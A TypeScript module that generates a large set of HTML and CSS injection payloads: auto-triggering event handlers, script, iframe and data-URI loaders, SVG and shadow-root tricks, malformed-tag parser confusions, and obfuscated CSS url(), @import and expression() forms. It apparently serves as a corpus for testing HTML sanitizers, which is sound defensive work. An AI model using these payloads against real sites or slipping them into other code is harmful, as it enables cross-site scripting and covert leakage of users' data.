/** What a piece of markup would do if it were obeyed: `code` is JavaScript without blanks and quotes, `url` an address that notices whoever asks it. */
export type Wish = { code: string, url: string }

/** A piece of markup that runs or loads something, whatever is around it. */
export type Vector = (wish: Wish) => string

const attribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
const base64 = (text: string) => Buffer.from(text).toString('base64')
const page = (code: string) => `<script>${code}</script>`
const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`

// An element, and the events that happen to it without anybody's doing.
const EVENTS: [element: string, events: string][] = [
  ['img src=x', 'onerror'], ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload onloadend'], ['body', 'onload onpageshow onhashchange onresize onfocus'], ['svg', 'onload onbegin'], ['image src=x', 'onerror'],
  ['iframe src=about:blank', 'onload'], ['input autofocus', 'onfocus onfocusin'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['details open', 'ontoggle'], ['video src=x', 'onerror onloadstart'],
  ['audio src=x', 'onerror onloadstart'], ['marquee', 'onstart onbounce'], ['object data=x', 'onerror onload'], ['embed src=x', 'onload onerror'], ['link rel=stylesheet href=x', 'onerror onload'], ['style', 'onload'],
  ['p style=animation:x', 'onanimationstart onwebkitanimationstart'], ['a tabindex=0 autofocus href=#x', 'onfocus'], ['div contenteditable autofocus', 'onfocus onbeforeinput'], ['table background=x', 'onload'], ['dialog open', 'oncancel ontoggle'],
  ['div popover', 'onbeforetoggle'], ['p content-visibility', 'oncontentvisibilityautostatechange'], ['form', 'onformdata onsubmit'], ['xss autofocus tabindex=1', 'onfocus'], ['script src=x', 'onerror'], ['track src=x default', 'onerror'],
]

const handlers: Vector[] = EVENTS.flatMap(([element, events]) => events.split(' ').map(event => ({ code }: Wish) => `<${element} ${event}=${code}>`))

const scripts: Vector[] = [
  ({ code }) => `<script>${code}</script>`,
  ({ code }) => `<script>${code}</script foo>`,
  ({ code }) => `<script type=module>${code}</script>`,
  ({ url }) => `<script src="${url}"></script>`,
  ({ url }) => `<script type="importmap">{"imports":{"x":"${url}"}}</script><script type=module>import "x"</script>`,
  ({ code }) => svg(`<script>${code}</script>`),
  ({ url }) => svg(`<script href="${url}"/>`),
  ({ code }) => svg(`<script><![CDATA[${code}]]></script>`),
  ({ code }) => `<iframe srcdoc="${attribute(page(code))}"></iframe>`,
  ({ code }) => `<iframe src="data:text/html;base64,${base64(page(code))}"></iframe>`,
  ({ code }) => `<object data="data:text/html;base64,${base64(page(code))}"></object>`,
  ({ code }) => `<embed src="data:image/svg+xml;base64,${base64(svg(page(code)))}">`,
  ({ code }) => `<embed src="data:text/html,${attribute(page(code))}" type="text/html">`,
  ({ code }) => `<meta http-equiv="refresh" content="0;url=data:text/html,${attribute(page(code))}">`,
  ({ code }) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  ({ code }) => `<svg><set onbegin=${code} attributeName=x to=y>`,
  ({ code }) => `<svg><a><animate attributeName=href values="javascript:${code}"/><text y=20>x</text></a></svg>`,
  ({ code }) => `<svg><use href="data:image/svg+xml;base64,${base64(svg(`<g id=x onload=${code}></g>`))}#x"/></svg>`,
  ({ code }) => `<svg><foreignObject><body onload=${code}></foreignObject></svg>`,
  ({ code }) => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
  ({ code }) => `<div><template shadowrootmode=open><slot onslotchange=${code}></slot></template>x</div>`,
  ({ code }) => `<img src=x:x onerror  =  ${code}>`,
  ({ code }) => `<img/src=x/onerror=${code}>`,
  ({ code }) => `<img src="x"onerror="${code}">`,
  ({ code }) => `<img ''"" src=x onerror=${code}>`,
  ({ code }) => `<img src=\`x\` onerror=${code}>`,
  ({ code }) => `<img src='x\n' title='>' onerror='${code}'>`,
  ({ code }) => `<<img src=x onerror=${code}>`,
  ({ code }) => `<img src=x onerror=${code}//`,
  ({ code }) => `<p title="a'b\`c" title2=">" onclick="" data-x='<img src=x onerror=${code}>'>x`,
]

const attributes: Vector[] = [
  'img src', 'img srcset', 'input type=image src', 'video autoplay src', 'video poster', 'audio autoplay src', 'source src', 'embed src', 'object data', 'iframe src', 'frame src', 'script async src', 'link rel=stylesheet href', 'link rel=icon href',
  'link rel=prefetch href', 'link rel=preload as=image href', 'link rel=modulepreload href', 'link rel=preconnect href', 'link rel=dns-prefetch href', 'link rel=manifest href', 'link rel=import href', 'body background', 'table background', 'td background', 'applet code=x archive', 'applet codebase',
  'bgsound src', 'img dynsrc', 'img lowsrc', 'image href', 'portal src', 'fencedframe src', 'html manifest', 'isindex action', 'blockquote cite',
].map((place): Vector => ({ url }) => `<${place}="${url}">`)

const loads: Vector[] = [
  ({ url }) => `<picture><source srcset="${url} 1x"><img src=x></picture>`,
  ({ url }) => `<img srcset="x 1x,${url} 2x" sizes=1px>`,
  ({ url }) => `<video controls><source src="${url}"><track default kind=captions src="${url}"></video>`,
  ({ url }) => `<base href="${url}/"><img src=under-base><a href=x>x</a>`,
  ({ url }) => `<meta http-equiv=refresh content="0;url=${url}">`,
  ({ url }) => `<meta http-equiv="Link" content="<${url}>;rel=preload;as=image">`,
  ({ url }) => svg(`<image href="${url}"/><image xlink:href="${url}"/>`),
  ({ url }) => svg(`<feImage href="${url}"/><use href="${url}#x"/>`),
  ({ url }) => `<svg><style>@import '${url}';</style></svg>`,
  ({ url }) => `<math><mi xlink:href="${url}">x</mi><mglyph src="${url}"/></math>`,
  ({ url }) => `<img src="data:image/svg+xml;base64,${base64(svg(`<image href="${url}"/>`))}">`,
  ({ url }) => `<iframe srcdoc="${attribute(`<img src="${url}">`)}"></iframe>`,
  ({ url }) => `<img src='${url}?left-open=`,
  ({ url }) => `<a href="${url}?left-open=`,
  ({ url }) => `<form action="${url}"><input name=a value=b><button autofocus>x</button></form><img src=x>`,
  ({ url }) => `<!--[if true]><img src="${url}"><![endif]--><![if true]><img src="${url}"><![endif]>`,
  ({ url }) => `<?xml-stylesheet href="${url}"?><img src=x>`,
  ({ url }) => `<object type="image/png" data="${url}"><img src="${url}"></object>`,
  ({ url }) => `<object><param name=src value="${url}"><param name=movie value="${url}"></object>`,
  ({ url }) => `<frameset onload=x><frame src="${url}"></frameset>`,
  ({ url }) => `<xml:namespace ns="x"/><v:image src="${url}"/><o:p style="behavior:url(${url})"></o:p>`,
]

const styles: Vector[] = [
  'background:url(U)', 'background-image:url(\'U\')', 'background:#fff url( "U" )', 'list-style:url(U)', 'list-style-image:url(U)', 'cursor:url(U),auto', 'border-image:url(U) 1', 'border-image-source:url(U)', 'content:url(U)', 'mask:url(U)', 'mask-image:url(U)',
  '-webkit-mask-box-image:url(U)', 'filter:url(U#x)', 'clip-path:url(U#x)', 'shape-outside:url(U)', 'offset-path:url(U#x)', 'background:image-set(\'U\' 1x)', 'background:-webkit-image-set(url(U) 1x)', 'background:cross-fade(url(U),url(U))', 'background:\\75\\72\\6c(U)',
  'background:u\\rl(U)', 'back\\67round:url(U)', 'background:url/**/(U)', 'background:/*;*/url(U)', '--x:url(U);background:var(--x)', 'background:URL(U)', 'background:url(U', 'background:url("U', 'color:red;;;background:url(U);', 'color:red}*{background:url(U)}', 'background:src("U")', 'behavior:url(U)',
  '-moz-binding:url(U#x)', 'width:expression(C)', 'background:url(javascript:C)', 'position:fixed;inset:0;background:url(U)', 'font-family:\'x\';src:url(U)', 'color:red\\;background:url(U)', 'color:red/*\';*/;background:url(U)', 'font-family:"\\"};background:url(U)//',
].map((css): Vector => ({ url, code }) => {
  const said = css.replaceAll('U', url).replaceAll('C', code)
  return `<p style="${attribute(said)}">x</p>`
})

const sheets: Vector[] = [
  '@import "U";', '@import url(U);', '@\\69mport url(U);', '@import/**/"U";', '@font-face{font-family:x;src:url(U)}*{font-family:x}', '*{background:url(U)}', '@media all{*{background:url(U)}}', '@namespace url(U);*{cursor:url(U),auto}', 'p::before{content:url(U)}', '@layer x{*{list-style:url(U)}}', ':root{--x:url(U)}*{background:var(--x)}', '*{background:url(U)}<!--',
].map((css): Vector => ({ url }) => `<style>${css.replaceAll('U', url)}</style><p>x</p>`)

/** Everything that runs or loads, in the plainest form. */
export const vectors: readonly Vector[] = [...handlers, ...scripts, ...attributes, ...loads, ...styles, ...sheets]
